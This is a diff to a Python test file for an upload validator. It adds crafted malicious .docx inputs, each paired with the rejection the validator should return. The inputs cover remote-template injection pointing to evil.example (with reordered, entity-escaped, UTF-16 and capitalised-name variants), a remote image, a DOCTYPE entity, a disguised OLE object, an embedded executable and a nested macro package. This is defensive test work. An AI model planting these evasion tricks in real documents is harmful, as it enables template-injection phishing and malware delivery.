@@ -60,6 +60,17 @@ def word(main: str = WORD, **more: bytes | str) -> bytes:
     return archive({"[Content_Types].xml": types, "word/document.xml": "<w:document/>", **extra})
 
 
+RELATIONSHIPS = "word___rels__settings.xml.rels"
+REMOTE = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'
+
+
+def relating(*attributes: str, encoding: str = "utf-8") -> dict[str, bytes]:
+    """The part that says what another draws in, for ``word``."""
+    inner = "".join(f"<Relationship {each}/>" for each in attributes)
+    space = "http://schemas.openxmlformats.org/package/2006/relationships"
+    return {RELATIONSHIPS: f'<Relationships xmlns="{space}">{inner}</Relationships>'.encode(encoding)}
+
+
 def workbook() -> bytes:
     out = io.BytesIO()
     openpyxl.Workbook().save(out)
@@ -81,6 +92,18 @@ def store(content: bytes, name: str) -> StoredFile:
         (PDF_BYTES, "申请表.pdf", PDF),
         (archive({"OFD.xml": "<ofd:OFD/>", "Doc_0/Document.xml": "<x/>"}), "执照.ofd", OFD),
         (word(), "方案.docx", DOCX),
+        (
+            word(
+                **relating(
+                    'Type="http://x/hyperlink" Target="https://www.gov.cn/" TargetMode="External"',
+                    'Type="http://x/package" Target="embeddings/Table1.xlsx"',
+                    'Type="http://x/image" Target="media/image1.png"',
+                ),
+                **{"word__embeddings__Table1.xlsx": workbook()},
+            ),
+            "图表.docx",
+            DOCX,
+        ),
         (workbook(), "清单.xlsx", XLSX),
         (archive({"申请表.pdf": PDF_BYTES}), "材料.zip", ZIP),
     ],
@@ -158,6 +181,69 @@ ATTACKS = {
         ),
         "文.docx",
         "外部",
+    ),
+    "docx with remote template, type last": (
+        word(
+            **relating(
+                'TargetMode="External" Target="http://evil.example/t.dotm" Type="http://x/attachedTemplate"'
+            )
+        ),
+        "文.docx",
+        "外部",
+    ),
+    "docx with remote template, escaped": (
+        word(
+            **relating(
+                'Type="http://x/attached&#84;emplate" Target="http://evil.example/t" TargetMode="&#69;xternal"'
+            )
+        ),
+        "文.docx",
+        "外部",
+    ),
+    "docx with remote template in UTF-16": (word(**relating(REMOTE, encoding="utf-16")), "文.docx", "外部"),
+    "docx with remote template, name in capitals": (
+        word(**{"word___rels__settings.xml.RELS": relating(REMOTE)[RELATIONSHIPS]}),
+        "文.docx",
+        "外部",
+    ),
+    "docx with a picture from elsewhere": (
+        word(**relating('Type="http://x/image" Target="//evil.example/p.png" TargetMode="External"')),
+        "文.docx",
+        "外部",
+    ),
+    "docx with a document type": (
+        word(**{RELATIONSHIPS: '<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>'}),
+        "文.docx",
+        "损坏",
+    ),
+    "docx with an object by another name": (
+        word(**relating('Type="http://x/oleObject" Target="media/one.bin"'), word__media__one__bin=b"x"),
+        "文.docx",
+        "外部",
+    ),
+    "docx with a program for a package": (
+        word(**relating('Type="http://x/package" Target="media/one"'), word__media__one=b"MZ"),
+        "文.docx",
+        "夹带",
+    ),
+    "docx with a package of macros": (
+        word(
+            **relating('Type="http://x/package" Target="/word/media/one"'), word__media__one=word(WORD_MACRO)
+        ),
+        "文.docx",
+        "宏",
+    ),
+    "docm in UTF-16": (
+        archive(
+            {
+                "[Content_Types].xml": f'<Types><Override ContentType="{WORD_MACRO}"/></Types>'.encode(
+                    "utf-16"
+                ),
+                "word/document.xml": "<w:document/>",
+            }
+        ),
+        "文.docx",
+        "宏",
     ),
     "bomb": (word(word__media=b"\0" * 40_000_000), "文.docx", "过大"),
     "many entries": (archive({f"{n}": b"" for n in range(4000)}), "文.docx", "过大"),
